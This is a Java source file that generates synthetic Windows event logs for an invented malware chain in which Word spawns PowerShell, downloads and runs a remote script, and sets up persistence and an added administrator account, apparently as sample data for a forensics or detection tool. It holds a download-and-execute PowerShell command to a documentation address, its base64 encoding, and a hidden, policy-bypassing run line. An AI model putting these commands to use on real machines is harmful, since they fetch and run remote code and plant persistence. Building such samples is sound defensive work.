package org.foothold.app.corpus;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.Map;
import java.util.TreeMap;
import org.foothold.formats.SharedData;

/**
 * The sample {@code samples/office-macro-chain}: the logs of an invented workstation on which Word starts PowerShell, which
 * downloads and runs a script; the script makes a scheduled task and a Run key, and then an account that it adds to the
 * administrators. Nothing in it is real: names and addresses are those reserved for documentation.
 */
final class OfficeMacroChain {
    static final String COMPUTER = "FIN-WS-014.nordwind.example";
    static final String DOMAIN = "NORDWIND";
    static final String USER = "j.larsen";
    static final String SID = "S-1-5-21-2718281828-3141592653-1618033988-1147";
    static final String LOGON = "0x5a3c1";
    static final String ACCOUNT = "svc_backup";
    static final String ACCOUNT_SID = "S-1-5-21-1414213562-2236067977-2645751311-1009";
    static final String SCRIPT =
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.58/updates/check.ps1')";
    static final String ENCODED = Base64.getEncoder().encodeToString(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
    static final String UPDATER = "C:\\Users\\j.larsen\\AppData\\Roaming\\OneDriveSync\\updater.ps1";
    static final String RUN_UPDATER =
            "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File \"" + UPDATER + "\"";

    private OfficeMacroChain() {}

    /** The files of the sample by their names. */
    static Map<String, byte[]> files() {
        Map<String, byte[]> files = new TreeMap<>();
        files.put("Security.evtx", SecurityScript.write());
        files.put("Microsoft-Windows-Sysmon%4Operational.evtx", SysmonScript.write());
        files.put("Microsoft-Windows-TaskScheduler%4Operational.evtx", TaskScript.write());
        files.put("Microsoft-Windows-PowerShell%4Operational.evtx", PowerShellScript.write());
        return files;
    }

    static Path folder() {
        return SharedData.repo().resolve("samples").resolve("office-macro-chain");
    }

    /** Writes the sample anew. */
    static void write() throws IOException {
        Files.createDirectories(folder());
        for (Map.Entry<String, byte[]> file : files().entrySet()) {
            Files.write(folder().resolve(file.getKey()), file.getValue());
        }
    }
}
